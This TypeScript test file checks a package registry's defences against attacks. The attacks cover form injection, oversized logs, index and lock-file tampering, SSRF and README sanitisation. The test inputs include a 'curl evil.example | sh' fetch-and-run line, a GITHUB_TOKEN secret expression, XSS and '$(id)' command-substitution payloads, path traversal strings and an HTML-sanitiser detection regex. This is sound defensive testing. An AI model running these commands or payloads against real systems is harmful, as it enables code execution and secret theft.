import type { LockedPackage } from '../../src/client/lock.ts';
import type { ErrorCode } from '../../src/errors.ts';
import { parseName } from '../../src/manifest/name.ts';
import { catalogOf, GraphSource, entryOf as graphEntry } from '../client/graph.ts';
import { ACME, entryOf, indexOf, lineOf } from '../sparse/fixture.ts';
import { type Attack, codeOf, HARMLESS, type Program, SUCCEEDS } from './attack.ts';
import { README_CORPUS } from './readme.ts';
import { PullWorld } from './world.ts';

/** A request whose text wants more than a look at a repository. */
function form(name: string, body: string, stopped: Attack['stopped'] = 'REQUEST_INVALID'): Attack {
  return {
    ...{ name, check: '(the form)', stopped },
    async attempt(program) {
      const world = new PullWorld();
      const before = world.index.head?.id;
      world.request(body);
      await world.run(program);
      const [answer = ''] = world.answers;
      if (world.index.head?.id !== before || comesToLife(answer)) return SUCCEEDS;
      return /\[([A-Z_]+)\]/.exec(answer)?.[1] ?? HARMLESS;
    },
  };
}

/** Whether anything but our own words stands outside of the blocks of text. */
function comesToLife(answer: string): boolean {
  const outside = answer.replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '').replace(/\[[A-Z_]+\]\(https:[^\s)]+\)/g, '');
  return /[@<$]|!\[|\]\(|mallory|secrets/.test(outside);
}

export const FORM_ATTACKS: readonly Attack[] = [
  form('Markdown in a request', '### Repository\n\n![x](https://evil.example/x) @acme/owners\n'),
  form('HTML in a request', '### Repository\n\n<img src=x onerror=alert(1)>\n'),
  form('YAML in a request', '### Repository\n\nacme/fmt: { publishers: anyone }\n'),
  form('a shell command in a request', '### Repository\n\nacme/fmt; curl evil.example | sh\n'),
  form('an expression of workflows in a request', '### Repository\n\n${{ secrets.GITHUB_TOKEN }}\n'),
  form('a path in place of a repository', '### Repository\n\n../../acme/registry\n'),
  form('an address of another server', '### Repository\n\nhttps://evil.example/acme/fmt\n'),
  form('an address with a login before the host', '### Repository\n\nhttps://github.com@evil.example/acme/fmt\n'),
  form('a request of a hundred thousand lines', '### Repository\n'.repeat(100_000)),
  {
    name: 'words of a package that come to life in the answer',
    check: '(the form)',
    stopped: 'MANIFEST_INVALID',
    async attempt(program) {
      const world = new PullWorld('publishers: anyone\n');
      const text = 'x\n```\n@acme/owners <img src=x onerror=alert(1)>\n````text\n$(id)';
      const about = { name: 'evil', version: '1.0.0', manifest: `homepage: ${JSON.stringify(text)}\n` };
      const release = await world.release(world.repository('mallory/evil'), about);
      const code = await world.attempt(program, release);
      return comesToLife(world.answers[0] ?? '') ? SUCCEEDS : code;
    },
  },
  {
    name: 'refusals of strangers in the log of a package',
    check: '(the log)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld('publishers: anyone\n');
      world.publish(world.repository('ada/fmt'), 'fmt', '1.0.0');
      await world.attempt(
        program,
        await world.release(world.repository('mallory/fmt'), { name: 'fmt', version: '6.6.6' }),
      );
      await world.attempt(
        program,
        await world.release(world.repository('mallory/x'), { name: 'nobody', version: '1.0.0', root: 'y' }),
      );
      const files = [...(world.log.head?.files.keys() ?? [])];
      return files.some((path) => path.startsWith('packages/')) ? SUCCEEDS : HARMLESS;
    },
  },
  {
    name: 'a log that a package fills without end',
    check: '(the log)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld();
      const repository = world.repository('acme/fmt');
      world.publish(repository, 'fmt', '0.1.0');
      const content = Buffer.from('no archive');
      for (let at = 0; at < 300; at++)
        await world.release(repository, { name: 'fmt', version: `1.${at}.0-${'a'.repeat(100)}`, content });
      await world.run(program);
      const lines = world.log.text('packages/3/f/fmt')?.trimEnd().split('\n') ?? [];
      return lines.length === 50 ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'refusals so long that nobody could keep them',
    check: '(the log)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld();
      const repository = world.repository('acme/fmt');
      world.publish(repository, 'fmt', '0.1.0');
      const requires = Array.from(
        { length: 50 },
        (_, at) => `  ${'x'.repeat(60)}${at}: "${'>=1.0.0 '.repeat(30)}"\n`,
      ).join('');
      for (let at = 0; at < 200; at++)
        await world.release(repository, { name: 'fmt', version: `1.${at}.0`, manifest: `requires:\n${requires}` });
      await world.attempt(
        program,
        repository.releases[0] ?? (await world.release(repository, { name: 'fmt', version: '2.0.0' })),
      );
      const kept = world.log.text('refusals.jsonl') ?? '';
      const whole = kept.split('\n').length === 201 && kept.length < 1_000_000;
      return whole && (world.answers[0] ?? '').length < 65_536 ? HARMLESS : SUCCEEDS;
    },
  },
];

/** Work that is to keep everybody else waiting. */
export const RUN_ATTACKS: readonly Attack[] = [
  {
    name: 'a request whose answer GitHub refuses, before all others',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld();
      world.request('### Repository\n\nmallory/x\n');
      world.request('### Repository\n\nada/fmt\n');
      world.unanswerable = 1;
      await world.run(program);
      return world.answers.length === 1 ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a request that has a thousand refused files downloaded again',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld('publishers: anyone\n');
      const repository = world.repository('mallory/x');
      const content = Buffer.from('no archive');
      for (let at = 0; at < 1_000; at++) await world.release(repository, { name: 'x', version: `1.${at}.0`, content });
      world.request('### Repository\n\nmallory/x\n');
      await world.run(program);
      const once = world.downloads.length;
      world.request('### Repository\n\nmallory/x\n');
      await world.run(program);
      return once === 1_000 && world.downloads.length <= once + 50 ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a package on which its reader fails, for every run to download it again',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld();
      const text = `{"version":"1.0.0","name":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
      const repository = world.repository('acme/x');
      world.publish(repository, 'x', '0.1.0');
      await world.release(repository, { name: 'x', version: '1.0.0', files: { 'package.json': text } });
      await world.run(program);
      await world.run(program);
      return world.downloads.length === 1 ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a build file of quotes that nobody closes, for minutes of reading',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld();
      const text = `"${'\\"'.repeat(500_000)}`;
      const files = { 'CMakeLists.txt': text, 'meson.build': text, 'MODULE.bazel': text };
      const release = await world.release(world.repository('acme/x'), { name: 'x', version: '1.0.0', files });
      return (await world.attempt(program, release)) === SUCCEEDS ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a package that requires a damaged one, before all others',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld('publishers: anyone\n');
      world.publish(world.repository('ada/log'), 'log', '1.0.0');
      world.write({ 'index/3/l/log': 'damaged\n' });
      await world.release(world.repository('ada/fmt'), { name: 'fmt', version: '1.0.0' });
      world.request('### Repository\n\nada/fmt\n');
      const manifest = 'requires: { log: "*" }\n';
      const release = await world.release(world.repository('mallory/x'), { name: 'x', version: '1.0.0', manifest });
      const code = await world.attempt(program, release);
      return code === 'INDEX_INVALID' && world.index.text('index/3/f/fmt') !== undefined ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a name like that of a damaged package, before all others',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld('publishers: anyone\n');
      world.publish(world.repository('ada/modern'), 'modern', '1.0.0');
      world.write({ 'owners/mo/de/modern': 'damaged\n' });
      await world.release(world.repository('ada/fmt'), { name: 'fmt', version: '1.0.0' });
      world.request('### Repository\n\nada/fmt\n');
      const release = await world.release(world.repository('mallory/modem'), { name: 'modem', version: '1.0.0' });
      const code = await world.attempt(program, release);
      return code === 'NAME_CONFUSABLE' && world.index.text('index/3/f/fmt') !== undefined ? HARMLESS : SUCCEEDS;
    },
  },
  {
    name: 'a repository with more bytes than a run can read',
    check: '(the run)',
    stopped: HARMLESS,
    async attempt(program) {
      const world = new PullWorld('publishers: [mallory, ada]\n');
      const [evil, good] = [world.repository('mallory/x'), world.repository('ada/fmt')];
      for (let at = 0; at < 100; at++)
        await world.release(evil, { name: 'x', version: `1.${at}.0`, content: Buffer.from('x'), size: 2 ** 28 });
      await world.release(good, { name: 'fmt', version: '1.0.0' });
      const { unfinished } = await world.run(program);
      return unfinished && world.downloads.length === 17 ? HARMLESS : SUCCEEDS;
    },
  },
];

const TWO = lineOf('fmt', '1.0.0') + lineOf('fmt', '2.0.0');
const PATH = 'index/3/f/fmt';

/** A pull request to the index that edits what was published. */
function edited(name: string, stopped: ErrorCode, before: string, after: string | undefined): Attack {
  return {
    ...{ name, check: '(the index)', stopped },
    attempt: (program) =>
      program.checkAppended(PATH, { before, after, proposed: true }).find(({ severity }) => severity === 'error')
        ?.code ?? SUCCEEDS,
  };
}

export const INDEX_ATTACKS: readonly Attack[] = [
  edited('a pull request that edits a checksum', 'ENTRY_CHANGED', TWO, TWO.replace('aaaa', 'bbbb')),
  edited('a pull request that names another commit', 'ENTRY_CHANGED', TWO, TWO.replace('cccc', 'dddd')),
  edited('a pull request that takes a version away', 'ENTRY_LOST', TWO, lineOf('fmt', '2.0.0')),
  edited('a pull request that takes a package away', 'ENTRY_LOST', TWO, undefined),
  edited('a pull request that puts a version first', 'ENTRY_MOVED', TWO, lineOf('fmt', '0.1.0') + TWO),
  edited(
    'a pull request that brings a removed version back',
    'ENTRY_CHANGED',
    lineOf('fmt', '1.0.0', { removed: 'malware' }),
    lineOf('fmt', '1.0.0'),
  ),
  edited(
    'a pull request that takes a yank back',
    'ENTRY_CHANGED',
    lineOf('fmt', '1.0.0', { yanked: true, yank_reason: 'loses data' }),
    lineOf('fmt', '1.0.0'),
  ),
  {
    name: 'an owner lifts a yank of the registry',
    check: '(the owner file)',
    stopped: 'YANK_HELD',
    attempt(program) {
      const index = indexOf('fmt', TWO);
      const held = program.judgeYank(
        { name: parseName('fmt'), version: '2.0.0', yanked: true, reason: 'malware', held: true },
        index.files,
      );
      const files = new Map([...index.files, ...(held.kind === 'change' ? held.changes : [])]);
      return wished(program, 'yanked: { 2.0.0: false }\n', { files });
    },
  },
  {
    name: 'a wish of a repository that is not the package\u2019s',
    check: '(the owner file)',
    stopped: 'NOT_OWNER',
    attempt: (program) =>
      codeOf(program, () => wished(program, 'deprecated: Use evil\n', { source: { ...ACME, id: 666 } })),
  },
  {
    name: 'a wish after the repository was sold',
    check: '(the owner file)',
    stopped: 'OWNER_CHANGED',
    attempt: (program) =>
      codeOf(program, () => wished(program, 'deprecated: Use evil\n', { source: { ...ACME, owner_id: 666 } })),
  },
  {
    name: 'a package moved away by a stolen token, before its owners can notice',
    check: '(the owner file)',
    stopped: 'MOVE_PENDING',
    attempt(program) {
      const publisher = { ...ACME, id: 666, owner_id: 666, owner: 'mallory', full_name: 'mallory/fmt' };
      return wished(program, 'moved-to: mallory/fmt\n', { target: { publisher, open: true, accepts: ['fmt'] } });
    },
  },
  {
    name: 'an owner file that nests without end',
    check: '(the owner file)',
    stopped: 'OWNER_FILE_INVALID',
    attempt: (program) => codeOf(program, () => wished(program, `yanked: ${'['.repeat(50_000)}`)),
  },
];

/** What an owner file does: `SUCCEEDS` where it is done at once. */
function wished(
  program: Program,
  text: string,
  more: Partial<Parameters<Program['applyOwnerFile']>[0]> & {
    readonly files?: ReadonlyMap<string, string | undefined>;
  } = {},
): string {
  const { files = indexOf('fmt', TWO).files, ...request } = more;
  const file = program.readOwnerFile({ file: '.clyde/registry.yaml', bytes: Buffer.from(text) });
  const now = '2026-11-20T12:00:00Z';
  const { notices } = program.applyOwnerFile(
    { file, name: parseName('fmt'), source: ACME, open: true, alone: true, now, ...request },
    files,
  );
  return notices[0]?.code ?? SUCCEEDS;
}

const REGISTRY = 'https://acme.github.io/registry/';
/** A line that no writer of ours would write. */
const lineWith = (dl: string) => lineOf('fmt', '1.0.0').replace(/"dl":"[^"]*"/, `"dl":"${dl}"`);

/** A lock file or an index that says something else than what was locked. */
function locked(name: string, stopped: ErrorCode, lock: Partial<LockedPackage>, line = lineOf('fmt', '1.0.0')): Attack {
  return {
    ...{ name, check: '(the client)', stopped },
    attempt: (program) =>
      codeOf(program, () => {
        const good = program.lockedFrom(entryOf('fmt', '1.0.0'), REGISTRY);
        program.confirmLocked({ ...good, ...lock }, program.readIndexFile(line, PATH));
      }),
  };
}

export const CLIENT_ATTACKS: readonly Attack[] = [
  locked('a checksum edited in the lock file', 'CHECKSUM_MISMATCH', { checksum: 'e'.repeat(64) }),
  locked('a checksum edited in the index', 'CHECKSUM_MISMATCH', {}, lineOf('fmt', '1.0.0', { cksum: 'e'.repeat(64) })),
  locked('a dependency added in the lock file', 'LOCK_INVALID', { dependencies: new Map([['evil', '*']]) }),
  locked('a removed version out of a lock file', 'VERSION_REMOVED', {}, lineOf('fmt', '1.0.0', { removed: 'malware' })),
  locked('an archive on a server without TLS', 'INDEX_INVALID', {}, lineWith('http://evil.example/fmt.tar.gz')),
  locked('an archive at a path out of the registry', 'INDEX_INVALID', {}, lineWith('../../evil/fmt.tar.gz')),
  locked(
    'two lines for one version',
    'INDEX_INVALID',
    {},
    lineOf('fmt', '1.0.0') + lineOf('fmt', '1.0.0', { cksum: 'e'.repeat(64) }),
  ),
  {
    name: 'an archive on the machine that asks for it',
    check: '(the client)',
    stopped: 'HOST_FOREIGN',
    attempt: (program) =>
      codeOf(program, () => program.downloadAddress('http://127.0.0.1:8080/admin', new URL(REGISTRY))),
  },
  {
    name: 'a name in a lock file that is a path',
    check: '(the client)',
    stopped: 'LOCK_INVALID',
    attempt: (program) =>
      codeOf(program, () => program.readLock('version: 1\npackages:\n  "../../evil":\n    version: "1.0.0"\n')),
  },
  {
    name: 'a dependency that another registry would answer',
    check: '(the client)',
    stopped: 'REGISTRY_CONFUSION',
    attempt(program) {
      const open = new GraphSource({}, { id: 'https://public.example/' });
      const catalog = catalogOf(open, { scope: '@acme', source: new GraphSource({}, { id: 'https://acme.example/' }) });
      const deps = [{ name: '@acme/secret', req: '*', kind: 'normal' as const }];
      return codeOf(program, () => program.checkOrigins([graphEntry('evil', '1.0.0', {}, { deps })], catalog));
    },
  },
];

export const README_ATTACKS: readonly Attack[] = README_CORPUS.map(([name, markdown]) => ({
  ...{ name, check: '(the site)', stopped: HARMLESS },
  attempt(program) {
    const html = program.renderReadme(markdown, { repository: 'https://github.com/acme/fmt', commit: 'c'.repeat(40) });
    return /<script|<iframe|<object|<form|\son\w+=|<[^>]*javascript:|<base|<meta|<[^>]*style=/i.test(
      html.replaceAll(/<code[\s\S]*?<\/code>/g, ''),
    )
      ? SUCCEEDS
      : HARMLESS;
  },
}));
